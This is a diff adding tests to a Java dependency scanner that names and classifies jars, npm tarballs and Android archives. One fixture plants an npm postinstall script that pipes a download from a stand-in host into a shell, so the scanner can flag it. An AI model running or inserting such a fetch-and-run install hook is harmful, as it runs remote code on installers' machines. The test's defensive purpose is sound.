@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import dev.gatehouse.analyzer.fixtures.ArchiveFixture;
+import dev.gatehouse.analyzer.fixtures.JarFixture;
 import java.io.IOException;
 import java.io.PrintWriter;
 import java.io.StringWriter;
@@ -48,7 +49,7 @@ class ScanCommandTest {
     assertThat(status).isEqualTo(ScanCommand.SOME_REFUSED);
     List<JsonNode> lines = jsonLines();
     assertThat(lines).extracting(l -> l.get("name").asText())
-        .containsExactly("org.example:beacon", "org.example:clean", "org.projectlombok:lombok");
+        .containsExactly("org.example:beacon", "org.example:clean", "org.example:codegen");
     JsonNode beacon = lines.get(0);
     assertThat(beacon.get("ecosystem").asText()).isEqualTo("maven");
     assertThat(beacon.get("version").asText()).isEqualTo("1.0");
@@ -141,5 +142,135 @@ class ScanCommandTest {
 
     assertThat(status).isEqualTo(ScanCommand.ERROR);
     assertThat(err.toString()).startsWith("gatehouse scan: ").contains("policy.yml");
+  }
+
+  @Test
+  void npmTarballNamedLikeAnSdistIsReadAsNpmAndItsInstallScriptSeen() throws IOException {
+    Path tarball = ArchiveFixture.create()
+        .file("package/package.json", """
+            {"name": "colours-extra", "version": "2.0.1",
+             "scripts": {"postinstall": "curl -s https://collector.invalid/x | sh"}}
+            """)
+        .file("package/index.js", "module.exports = 1;\n")
+        .tarGz(tmp.resolve("colours-extra-2.0.1.tar.gz"));
+
+    int status = run("scan", "--json", tmp.toString());
+
+    assertThat(status).isEqualTo(ScanCommand.SOME_REFUSED);
+    JsonNode line = jsonLines().get(0);
+    assertThat(line.get("ecosystem").asText()).isEqualTo("npm");
+    assertThat(line.get("name").asText()).isEqualTo("colours-extra");
+    assertThat(line.get("version").asText()).isEqualTo("2.0.1");
+    assertThat(line.get("findings")).extracting(f -> f.get("trigger").asText()).contains("npm-lifecycle-script");
+  }
+
+  @Test
+  void jarOutsideARepositoryLayoutIsNamedByItsPomProperties() throws IOException {
+    Path jar = tmp.resolve("downloads/plugin.jar");
+    Files.createDirectories(jar.getParent());
+    Files.write(jar, JarFixture.builder()
+        .javaSource("fixture/A", "package fixture; public class A {}")
+        .resource("META-INF/maven/org.shaded/inner/pom.properties", "groupId=org.shaded\nartifactId=inner\nversion=9\n")
+        .resource("META-INF/maven/org.example/plugin/pom.properties",
+            "groupId=org.example\nartifactId=plugin\nversion=1.2.3\n")
+        .toBytes());
+    Path versioned = Files.copy(jar, tmp.resolve("downloads/plugin-1.2.3.jar"));
+    Path other = Files.copy(jar, tmp.resolve("downloads/bundle.jar"));
+
+    run("scan", "--json", jar.toString(), versioned.toString(), other.toString());
+
+    List<JsonNode> lines = jsonLines();
+    // The file name picks the jar's own pom.properties among the shaded ones.
+    assertThat(lines.get(0).get("name").asText()).isEqualTo("org.example:plugin");
+    assertThat(lines.get(0).get("version").asText()).isEqualTo("1.2.3");
+    assertThat(lines.get(1).get("name").asText()).isEqualTo("org.example:plugin");
+    // Two pom.properties and a file name that names neither: no guess, and the manifest says nothing.
+    assertThat(lines.get(2).get("name").asText()).isEqualTo("unknown:bundle");
+  }
+
+  @Test
+  void jarWithoutPomPropertiesIsNamedByItsManifest() throws IOException {
+    Path vendor = Files.write(tmp.resolve("slf4j-ext-2.0.16.jar"), JarFixture.builder()
+        .javaSource("fixture/A", "package fixture; public class A {}")
+        .manifest("Implementation-Vendor-Id", "org.slf4j")
+        .manifest("Implementation-Version", "2.0.16")
+        .toBytes());
+    Path bundle = Files.write(tmp.resolve("tool.jar"), JarFixture.builder()
+        .javaSource("fixture/B", "package fixture; public class B {}")
+        .manifest("Bundle-SymbolicName", "org.example.tool;singleton:=true")
+        .manifest("Bundle-Version", "3.1.0")
+        .toBytes());
+    Path module = Files.write(tmp.resolve("lombok.jar"), JarFixture.builder()
+        .javaSource("fixture/C", "package fixture; public class C {}")
+        .manifest("Automatic-Module-Name", "lombok")
+        .toBytes());
+
+    Path eclipse = Files.write(tmp.resolve("org.eclipse.sisu.inject-0.3.0.M1.jar"), JarFixture.builder()
+        .javaSource("fixture/D", "package fixture; public class D {}")
+        .manifest("Bundle-SymbolicName", "org.eclipse.sisu.inject;singleton:=true")
+        .manifest("Bundle-Version", "0.3.0.M1")
+        .toBytes());
+
+    run("scan", "--json", vendor.toString(), bundle.toString(), module.toString(), eclipse.toString());
+
+    List<JsonNode> lines = jsonLines();
+    assertThat(lines.get(0).get("name").asText()).isEqualTo("org.slf4j:slf4j-ext");
+    assertThat(lines.get(0).get("version").asText()).isEqualTo("2.0.16");
+    assertThat(lines.get(1).get("name").asText()).isEqualTo("org.example.tool:tool");
+    assertThat(lines.get(1).get("version").asText()).isEqualTo("3.1.0");
+    // No version anywhere: the name stays unknown rather than half-made.
+    assertThat(lines.get(2).get("name").asText()).isEqualTo("unknown:lombok");
+    // A bundle named like its artifact: the group is the namespace the bundle sits in.
+    assertThat(lines.get(3).get("name").asText()).isEqualTo("org.eclipse.sisu:org.eclipse.sisu.inject");
+    assertThat(lines.get(3).get("version").asText()).isEqualTo("0.3.0.M1");
+  }
+
+  @Test
+  void jarInARepositoryLayoutIsNamedByWhereItSits() throws IOException {
+    Path repository = ScanFixtures.repository(tmp);
+
+    run("scan", "--json", repository.resolve("org/example/clean/1.0/clean-1.0.jar").toString());
+
+    assertThat(jsonLines().get(0).get("name").asText()).isEqualTo("org.example:clean");
+    assertThat(jsonLines().get(0).get("version").asText()).isEqualTo("1.0");
+  }
+
+  @Test
+  void androidArchiveCarryingLintChecksIsHeldAsBuildTimeCode() throws IOException {
+    Path aar = ArchiveFixture.create()
+        .file("AndroidManifest.xml", "<manifest package=\"fixture\"/>")
+        .file("classes.jar", JarFixture.builder().javaSource("fixture/W", "package fixture; public class W {}").toBytes())
+        .file("lint.jar", JarFixture.builder()
+            .manifest("Lint-Registry-v2", "fixture.lint.Registry")
+            .javaSource("fixture/lint/Registry", "package fixture.lint; public class Registry { public int getApi() { return 14; } }")
+            .toBytes())
+        .zip(tmp.resolve("widgets-1.0.aar"));
+
+    int status = run("scan", "--json", aar.toString());
+
+    assertThat(status).isEqualTo(ScanCommand.SOME_REFUSED);
+    JsonNode line = jsonLines().get(0);
+    assertThat(line.get("ecosystem").asText()).isEqualTo("maven");
+    assertThat(line.get("rule").asText()).isEqualTo("build-time-code");
+    assertThat(line.get("findings").get(0).get("trigger").asText()).isEqualTo("build-plugin");
+  }
+
+  @Test
+  void folderNamedOnTheCommandLineIsWhereTheRepositoryLayoutStarts() throws IOException {
+    Path mirror = tmp.resolve("m2set");
+    Path coroutines = mirror.resolve("org/jetbrains/kotlinx/coroutines-core/1.6.4/coroutines-core-1.6.4.jar");
+    Path sisu = mirror.resolve("org/eclipse/sisu/org.eclipse.sisu.inject/0.3.0/org.eclipse.sisu.inject-0.3.0.jar");
+    Files.createDirectories(coroutines.getParent());
+    Files.createDirectories(sisu.getParent());
+    Files.write(coroutines, JarFixture.builder().javaSource("fixture/A", "package fixture; public class A {}").toBytes());
+    // The bundle's symbolic name is not its groupId; where the file sits says the groupId.
+    Files.write(sisu, JarFixture.builder().javaSource("fixture/B", "package fixture; public class B {}")
+        .manifest("Bundle-SymbolicName", "org.eclipse.sisu.inject;singleton:=true")
+        .manifest("Bundle-Version", "0.3.0").toBytes());
+
+    run("scan", "--json", mirror.toString());
+
+    assertThat(jsonLines()).extracting(l -> l.get("name").asText() + ":" + l.get("version").asText())
+        .containsExactly("org.eclipse.sisu:org.eclipse.sisu.inject:0.3.0", "org.jetbrains.kotlinx:coroutines-core:1.6.4");
   }
 }
